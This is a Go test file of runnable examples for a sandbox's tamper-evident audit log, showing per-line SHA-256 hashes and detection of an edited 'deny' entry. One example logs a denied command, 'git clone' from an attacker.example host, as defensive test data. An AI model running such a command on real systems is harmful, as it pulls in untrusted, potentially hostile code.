package audit_test

import (
	"bytes"
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"os"
	"path/filepath"

	"github.com/airlock-sandbox/airlock/audit"
	"github.com/airlock-sandbox/airlock/decision"
)

// An outside tool can check a line with SHA-256 alone: cut the 75-byte
// hash member, put back the closing brace, hash, compare.
func Example_lineHash() {
	dir, _ := os.MkdirTemp("", "audit-example-")
	defer os.RemoveAll(dir)
	log, err := audit.Open(filepath.Join(dir, "audit.jsonl"))
	if err != nil {
		fmt.Println(err)
		return
	}
	defer log.Close()
	ev, _ := log.Append(audit.FromDecision(decision.Decision{
		Gate: decision.GateCommand, Verdict: decision.Deny,
		Reason: `"git" is not in the allowlist of tool "run_tests"`,
	}, audit.Context{Tool: "run_tests", Command: "git", Args: []string{"clone", "https://attacker.example/repo"}}))

	data, _ := os.ReadFile(log.Path())
	lines := bytes.Split(bytes.TrimSuffix(data, []byte("\n")), []byte("\n"))
	line := lines[len(lines)-1]
	body := append(bytes.Clone(line[:len(line)-75]), '}')
	sum := sha256.Sum256(body)
	fmt.Println(hex.EncodeToString(sum[:]) == ev.Hash)
	fmt.Println(string(line[len(line)-75:len(line)-66]), ev.Seq)
	// Output:
	// true
	// ,"hash":" 2
}

// Verify names the first bad line.
func ExampleVerify() {
	dir, _ := os.MkdirTemp("", "audit-example-")
	defer os.RemoveAll(dir)
	path := filepath.Join(dir, "audit.jsonl")
	log, _ := audit.Open(path)
	for _, tool := range []string{"run_tests", "install_deps", "read_file"} {
		log.Append(audit.Event{Kind: audit.KindCommand, Decision: audit.DecisionDeny,
			Reason: "no scope for tool: deny by default", Context: audit.Context{Tool: tool}})
	}
	log.Close()

	data, _ := os.ReadFile(path)
	rep, err := audit.Verify(bytes.NewReader(data))
	fmt.Println(rep.Events, err)

	tampered := bytes.Replace(data, []byte(`"decision":"deny"`), []byte(`"decision":"allow"`), 1)
	_, err = audit.Verify(bytes.NewReader(tampered))
	fmt.Println(err)
	// Output:
	// 4 <nil>
	// line 2: hash does not match the line's contents: the line was edited
}
